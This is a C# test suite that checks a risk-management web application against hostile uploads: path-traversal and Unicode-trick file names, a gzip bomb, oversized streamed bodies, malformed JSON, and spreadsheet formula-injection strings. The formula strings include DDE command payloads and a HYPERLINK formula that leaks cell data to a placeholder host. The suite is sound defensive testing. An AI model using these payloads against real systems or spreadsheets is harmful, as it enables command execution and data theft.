using System.Diagnostics;
using System.Globalization;
using System.IO.Compression;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;

namespace Hufu.Cli.Tests;

/// <summary>A server on a copy of the sample, with its administrator at a browser and a program with a token.</summary>
public sealed class RunningSample(Sample sample) : IAsyncLifetime
{
    internal string Data { get; private set; } = "";

    internal Server Server { get; private set; } = null!;

    internal Visitor Browser { get; private set; } = null!;

    internal Visitor Api { get; private set; } = null!;

    public async ValueTask InitializeAsync()
    {
        Data = sample.Copy();
        Server = await Program.ServeAsync(Data);
        Browser = await Visitor.SignInAsync(Server);
        Api = await Browser.ProgramAsync();
    }

    public async ValueTask DisposeAsync()
    {
        Browser?.Dispose();
        Api?.Dispose();
        if (Server is not null) await Server.DisposeAsync();
    }
}

/// <summary>
/// Hostile and broken input at the pages and the API of the running product: refused in words that name the place, with nothing stored, and the
/// server goes on.
/// </summary>
public sealed class HostileUploadTests(Sample sample, RunningSample site) : IClassFixture<RunningSample>
{
    private const long Huge = 2L << 30;

    public static TheoryData<string> TableNames => [.. HostileFiles.Tables.Keys];

    public static TheoryData<string> ScanNames => [.. HostileFiles.Scans.Keys];

    [Theory]
    [MemberData(nameof(TableNames))]
    public async Task A_hostile_table_is_refused_by_the_imports_of_records_and_of_people(string name)
    {
        var (bytes, words) = HostileFiles.Tables[name];
        foreach (var path in new[] { "/risk/assets/import", "/admin/people/import" })
            await RefusedAsync(() => site.Browser.UploadAsync(path, "file", name, bytes), words);
        await RefusedByTheApiAsync(name, bytes, words);
    }

    [Theory]
    [MemberData(nameof(ScanNames))]
    public async Task A_hostile_scan_is_refused(string name)
    {
        await RefusedAsync(() => site.Browser.UploadAsync("/risk/assets/import", "file", name, HostileFiles.Scans[name].Bytes), HostileFiles.Scans[name].Words);
        await RefusedByTheApiAsync(name, HostileFiles.Scans[name].Bytes, HostileFiles.Scans[name].Words);
    }

    [Fact]
    public async Task A_row_that_is_refused_is_named_and_stops_all_of_it()
    {
        var file = HostileFiles.Assets(("N-1", "good"), ("N-2", "bad\u0001title"), ("N-3", "good"));
        var shown = await site.Browser.UploadAsync("/risk/assets/import", "file", "list.csv", file);
        Assert.True(shown.Status == 200, shown.ToString());
        var (upload, fields) = Visitor.Mapping(shown.Body);
        var before = State();
        var done = await site.Browser.PostAsync("/risk/assets/import/commit", [("upload", upload), ("name", "list.csv"), .. fields]);
        Assert.True(done.Status == 422 && done.Words.Contains("The first is row 3", StringComparison.Ordinal) && done.Words.Contains("control character at position 4", StringComparison.Ordinal), done.ToString());
        Assert.Equal(before, State());
        await HealthyAsync();
    }

    [Fact]
    public async Task A_name_with_folders_and_unseen_characters_is_only_a_name()
    {
        var shown = await site.Browser.UploadAsync("/risk/assets/import", "file", "../../../etc/cron.d/\u202Eevil\u0007.csv", HostileFiles.Assets(("P-1", "x")));
        Assert.True(shown.Status == 200 && shown.Body.Contains("_evil_.csv", StringComparison.Ordinal), shown.ToString());
        Assert.DoesNotContain("cron.d", shown.Body, StringComparison.Ordinal);
        Assert.DoesNotContain('\u202E', shown.Body);
        var number = (string)Sample.Scalar(site.Data, "SELECT number FROM risk_asset ORDER BY number LIMIT 1")!;
        var attached = await site.Browser.UploadAsync($"/risk/assets/{number}/evidence", "file", "..\\..\\x\r\n\u202Efdp.txt", "proof"u8.ToArray());
        Assert.True(attached.Status == 302, attached.ToString());
        Assert.Equal("x___fdp.txt", Sample.Scalar(site.Data, "SELECT file_name FROM evidence ORDER BY added_at DESC LIMIT 1"));
        var refused = await site.Browser.UploadAsync($"/risk/assets/{number}/evidence", "file", "run.exe. ", "MZ"u8.ToArray());
        Assert.Contains(".exe", refused.Flash, StringComparison.Ordinal);
        Assert.Equal(1L, Sample.Scalar(site.Data, "SELECT count(*) FROM evidence"));
    }

    [Fact]
    public async Task Evidence_over_its_limit_is_refused_and_leaves_no_part()
    {
        var number = (string)Sample.Scalar(site.Data, "SELECT number FROM risk_asset ORDER BY number LIMIT 1")!;
        var before = State();
        var refused = await site.Browser.UploadAsync($"/risk/assets/{number}/evidence", "file", "big.bin", new byte[(100 << 20) + 1]);
        Assert.True(refused.Status == 302 && refused.Flash!.Contains("limit of 100 MB", StringComparison.Ordinal), refused.ToString());
        Assert.Equal(before, State());
        Assert.Empty(Directory.Exists(Path.Combine(site.Data, "files")) ? Directory.EnumerateFiles(Path.Combine(site.Data, "files"), "*.part") : []);
    }

    [Theory]
    [InlineData("en", "At most 220 MB", false)]
    [InlineData("zh-TW", "一次最多 220 MB", false)]
    [InlineData("en", "At most 220 MB", true)]
    public async Task Two_gigabytes_are_refused_at_the_limit_of_the_page(string language, string words, bool unannounced)
    {
        var before = State();
        site.Browser.Speak(language);
        try
        {
            var answer = await site.Browser.PourAsync("/risk/assets/import", "multipart/form-data; boundary=x", unannounced ? null : Huge, Endless.Head, Endless.Piece, Huge);
            Assert.StartsWith("HTTP/1.1 413 ", answer, StringComparison.Ordinal);
            Assert.Contains(words, answer, StringComparison.Ordinal);
        }
        finally
        {
            site.Browser.Speak("en");
        }

        Assert.Equal(before, State());
        await HealthyAsync();
    }

    [Theory]
    [InlineData("/api/v1/logs/import?name=big.log", "At most 1024 MB")]
    [InlineData("/api/v1/risk/assets/import?name=big.csv&commit=true", "At most 200 MB")]
    public async Task Two_gigabytes_are_refused_at_the_limit_of_the_API(string path, string words)
    {
        var before = State();
        using var body = new Endless();
        var answer = await site.Api.SendAsync(HttpMethod.Post, path, body, waitForLeave: true);
        Assert.True(answer.Status == 413 && answer.Body.Contains(words, StringComparison.Ordinal), answer.ToString());
        Assert.StartsWith("application/problem+json", answer.ContentType, StringComparison.Ordinal);
        Assert.Equal(before, State());
        await HealthyAsync();
    }

    [Fact]
    public async Task A_packed_log_that_unpacks_to_nothing_but_one_endless_line_is_one_event_with_its_problem()
    {
        using var packed = new MemoryStream();
        await using (var gzip = new GZipStream(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            var blanks = new byte[1 << 20];
            Array.Fill(blanks, (byte)'x');
            for (var i = 0; i < 150; i++) await gzip.WriteAsync(blanks, TestContext.Current.CancellationToken);
        }

        var answer = await site.Browser.UploadAsync("/logs/import", "files", "bomb.log.gz", packed.ToArray());
        Assert.True(answer.Status is 200 or 422 && !answer.Body.Contains("   at ", StringComparison.Ordinal), answer.ToString());
        await HealthyAsync();
    }

    [Theory]
    [InlineData("broken.log.gz", "1F8B0800000000000003FFFFFFFF", "could not be read")]
    [InlineData("no-log.exe", "4D5A", "Only .log")]
    public Task A_log_file_that_cannot_be_unpacked_or_is_none_is_refused(string name, string hex, string words) =>
        RefusedAsync(() => site.Browser.UploadAsync("/logs/import", "files", name, Convert.FromHexString(hex)), [name, words]);

    public static TheoryData<string, byte[], string, int, string> BadJson => new()
    {
        { "deep", Encoding.UTF8.GetBytes("{\"fields\":" + new string('[', 5000)), "application/json", 400, "bad-json" },
        { "not UTF-8", [.. "{\"fields\":{\n\"title\":\""u8, 0xFF, 0xFE, .. "\"}}"u8], "application/json", 400, "bad-json" },
        { "cut off", [.. "{\"fields\":{\"title\":"u8], "application/json", 400, "bad-json" },
        { "of the wrong type", [.. "{\"fields\":[1,2]}"u8], "application/json", 400, "bad-json" },
        { "empty", [], "application/json", 400, "bad-request" },
        { "called text", [.. "{\"fields\":{}}"u8], "text/plain", 415, "bad-media-type" },
        { "half a character", [.. "{\"fields\":{\"title\":\"\\uD800\",\"category\":\"hardware\"}}"u8], "application/json", 400, "bad-json" },
    };

    [Theory]
    [MemberData(nameof(BadJson))]
    public async Task JSON_that_cannot_be_read_is_refused_with_its_place(string what, byte[] body, string contentType, int status, string code)
    {
        Assert.NotEmpty(what);
        var before = State();
        var answer = await site.Api.SendAsync(HttpMethod.Post, "/api/v1/risk/assets", body, contentType);
        Assert.True(answer.Status == status, answer.ToString());
        Assert.StartsWith("application/problem+json", answer.ContentType, StringComparison.Ordinal);
        using var problem = JsonDocument.Parse(answer.Body);
        var error = problem.RootElement.GetProperty("errors")[0];
        Assert.Equal(code, error.GetProperty("code").GetString());
        if (code == "bad-json") Assert.Matches("^[0-9]+:[0-9]+$", error.GetProperty("place").GetString());
        Assert.NotEmpty(error.GetProperty("message").GetString()!);
        Assert.DoesNotContain("   at ", answer.Body, StringComparison.Ordinal);
        Assert.Equal(before, State());
        await HealthyAsync();
    }

    [Theory]
    [InlineData("application/json", "{}", 415, "content type")]
    [InlineData("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\nbroken off", 400, "broke off or is no valid form")]
    [InlineData("multipart/form-data", "no boundary", 400, "form")]
    public async Task A_form_that_is_none_is_refused(string contentType, string body, int status, string words)
    {
        var before = State();
        var answer = await site.Browser.SendAsync(HttpMethod.Post, "/risk/assets/import", Encoding.UTF8.GetBytes(body), contentType);
        Assert.True(answer.Status == status && answer.Words.Contains(words, StringComparison.OrdinalIgnoreCase), answer.ToString());
        Assert.Equal(before, State());
        await HealthyAsync();
    }

    [Fact]
    public async Task Two_gigabytes_at_the_command_line_are_refused_with_the_limit()
    {
        var file = sample.Free() + ".csv";
        // Nothing but its beginning is on the disk.
        await using (var sparse = new FileStream(file, FileMode.CreateNew))
        {
            await sparse.WriteAsync(Encoding.UTF8.GetBytes(Sample.AssetList("H", 3)), TestContext.Current.CancellationToken);
            sparse.SetLength(Huge);
        }

        var outcome = await Program.RunAsync("import", "assets", file, "--commit", "--data", sample.Master);
        Assert.True(outcome.Code == 2 && outcome.Error.Contains("larger than 200 MB", StringComparison.Ordinal), outcome.ToString());
        File.Delete(file);
    }

    public static TheoryData<string> Formulas => ["=cmd|'/c calc'!A1", "=HYPERLINK(\"http://x/?\"&A1,\"a\")", "+1", "-1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+9)*cmd|x", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "'=quoted", "''@twice", "a\n=1+1", "=1,\"=2\"\n+3"];

    [Fact]
    public async Task Formulas_come_in_as_texts_leave_escaped_and_come_back_without_loss()
    {
        await using var server = await Program.ServeAsync(sample.Copy());
        var data = server.Data;
        using var browser = await Visitor.SignInAsync(server);
        var titles = Formulas.Select(f => f.Data).ToList();
        var shown = await browser.UploadAsync("/risk/assets/import", "file", "list.csv", HostileFiles.Assets([.. titles.Select((t, i) => ($"F-{i:D2}", t))]));
        var (upload, fields) = Visitor.Mapping(shown.Body);
        var done = await browser.PostAsync("/risk/assets/import/commit", [("upload", upload), ("name", "list.csv"), .. fields]);
        Assert.True(done.Status == 302, done.ToString());
        string[] Kept() => ((string)Sample.Scalar(data, "SELECT group_concat(title, '¦') FROM (SELECT title FROM risk_asset WHERE code LIKE 'F-%' ORDER BY code)")!).Split('¦');
        var kept = Kept();
        // A title is one line, without blanks around it, and what spreadsheets put before a formula is not part of it.
        Assert.Equal(titles.Select(t => Regex.Replace(Guard(t).Trim(), "[\r\n]+", " ")), kept);

        var csv = Encoding.UTF8.GetString(await browser.BytesAsync("/risk/assets/export?all=1&format=csv&f.code=F-"));
        var cells = Csv(csv);
        Assert.Equal(titles.Count + 1, cells.Count);
        foreach (var cell in cells.Skip(1).SelectMany(r => r))
            Assert.False(cell.Length > 0 && "=+-@\t\r＝＋－＠".Contains(cell[0], StringComparison.Ordinal) && !decimal.TryParse(cell, CultureInfo.InvariantCulture, out _), $"A spreadsheet would take this for a formula: {cell}");
        foreach (var title in kept.Where(t => t.Length > 0)) Assert.Contains(cells.Skip(1), row => row.Any(c => c == title || c == "'" + title));

        foreach (var format in new[] { "xlsx", "ods", "csv" })
        {
            var bytes = await browser.BytesAsync($"/risk/assets/export?all=1&format={format}&f.code=F-");
            if (format != "csv")
            {
                using var zip = new ZipArchive(new MemoryStream(bytes));
                using var part = new StreamReader(zip.GetEntry(format == "ods" ? "content.xml" : "xl/worksheets/sheet1.xml")!.Open());
                var xml = await part.ReadToEndAsync(TestContext.Current.CancellationToken);
                Assert.DoesNotMatch(format == "ods" ? "table:formula" : "<f[ >]", xml);
                Assert.Matches(format == "ods" ? "office:value-type=\"string\"" : "t=\"(inlineStr|s|str)\"", xml);
            }

            var again = await browser.UploadAsync("/risk/assets/import", "file", "again." + format, bytes);
            var (second, same) = Visitor.Mapping(again.Body);
            var plan = await browser.PostAsync("/risk/assets/import/plan", [("upload", second), ("name", "again." + format), .. same]);
            Assert.True(plan.Status == 200 && Regex.IsMatch(plan.Words, $@"Unchanged {titles.Count}\b"), plan.ToString());
        }

        Assert.Equal(kept, Kept());
        await server.StopAsync();

        static string Guard(string text) => Regex.IsMatch(text, "^'+[=@]") ? text[1..] : text;
    }

    private static List<List<string>> Csv(string text)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        foreach (Match m in Regex.Matches(text.TrimStart('\uFEFF'), "(\"(?<q>(?:[^\"]|\"\")*)\"|(?<p>[^,\r\n]*))(?<end>,|\r?\n|$)"))
        {
            row.Add(m.Groups["q"].Success ? m.Groups["q"].Value.Replace("\"\"", "\"", StringComparison.Ordinal) : m.Groups["p"].Value);
            if (m.Groups["end"].Value == ",") continue;
            if (row.Count > 1) rows.Add(row);
            row = [];
        }

        return rows;
    }

    // Records, changes, people, events and what lies in the folder of uploads.
    private string State() => string.Join(' ',
        Sample.Scalar(site.Data, "SELECT count(*) FROM risk_asset"), Sample.Scalar(site.Data, "SELECT count(*) FROM change WHERE type_key <> 'logs.segment'"), Sample.Scalar(site.Data, "SELECT count(*) FROM evidence"), Sample.Scalar(site.Data, "SELECT count(*) FROM number_series"));

    private int Uploads() => Directory.Exists(Path.Combine(site.Data, "uploads")) ? Directory.EnumerateFiles(Path.Combine(site.Data, "uploads")).Count() : 0;

    private async Task RefusedAsync(Func<Task<Answer>> send, string[] words)
    {
        var (before, uploads) = (State(), Uploads());
        var answer = await send();
        Assert.True(answer.Status == 422, answer.ToString());
        foreach (var word in words) Assert.True(answer.Words.Contains(word, StringComparison.Ordinal), $"“{word}” is not in: {answer}");
        Assert.DoesNotContain("   at ", answer.Body, StringComparison.Ordinal);
        site.Browser.Speak("zh-TW");
        try
        {
            var chinese = await send();
            Assert.True(chinese.Status == 422 && words.All(w => !w.Contains(' ', StringComparison.Ordinal) || !chinese.Words.Contains(w, StringComparison.Ordinal)), chinese.ToString());
        }
        finally
        {
            site.Browser.Speak("en");
        }

        Assert.Equal(before, State());
        Assert.Equal(uploads, Uploads());
        await HealthyAsync();
    }

    private async Task RefusedByTheApiAsync(string name, byte[] bytes, string[] words)
    {
        var (before, uploads) = (State(), Uploads());
        var answer = await site.Api.SendAsync(HttpMethod.Post, "/api/v1/risk/assets/import?commit=true&skipRefused=true&name=" + name, bytes, "application/octet-stream");
        Assert.True(answer.Status == 422, answer.ToString());
        Assert.StartsWith("application/problem+json", answer.ContentType, StringComparison.Ordinal);
        using var problem = JsonDocument.Parse(answer.Body);
        var detail = problem.RootElement.GetProperty("detail").GetString()!;
        foreach (var word in words) Assert.Contains(word, detail, StringComparison.Ordinal);
        Assert.StartsWith(name, problem.RootElement.GetProperty("errors")[0].GetProperty("place").GetString(), StringComparison.Ordinal);
        Assert.Equal(before, State());
        Assert.Equal(uploads, Uploads());
        await HealthyAsync();
    }

    private async Task HealthyAsync()
    {
        Assert.Equal("Healthy", (await site.Browser.GetAsync("/health")).Body);
        Assert.Equal(200, (await site.Browser.GetAsync("/risk/assets")).Status);
        if (!OperatingSystem.IsLinux()) return;
        using var process = Process.GetProcessById(site.Server.Process.Id);
        Assert.True(process.WorkingSet64 < 1500L << 20, $"The server holds {process.WorkingSet64 >> 20} MB.");
    }

    /// <summary>A form with a file that is made while it is sent, and held nowhere.</summary>
    private sealed class Endless : HttpContent
    {
        internal static readonly byte[] Head = Encoding.ASCII.GetBytes("--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.csv\"\r\nContent-Type: text/csv\r\n\r\n");
        internal static readonly byte[] Piece = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("A-1,host,hardware,high,high,high\n", 4000)));

        internal Endless() => Headers.TryAddWithoutValidation("Content-Type", "text/plain");

        protected override async Task SerializeToStreamAsync(Stream stream, System.Net.TransportContext? context)
        {
            for (long sent = 0; sent < Huge;)
            {
                var count = (int)Math.Min(Piece.Length, Huge - sent);
                await stream.WriteAsync(Piece.AsMemory(0, count));
                sent += count;
            }
        }

        protected override bool TryComputeLength(out long length)
        {
            length = Huge;
            return true;
        }
    }
}
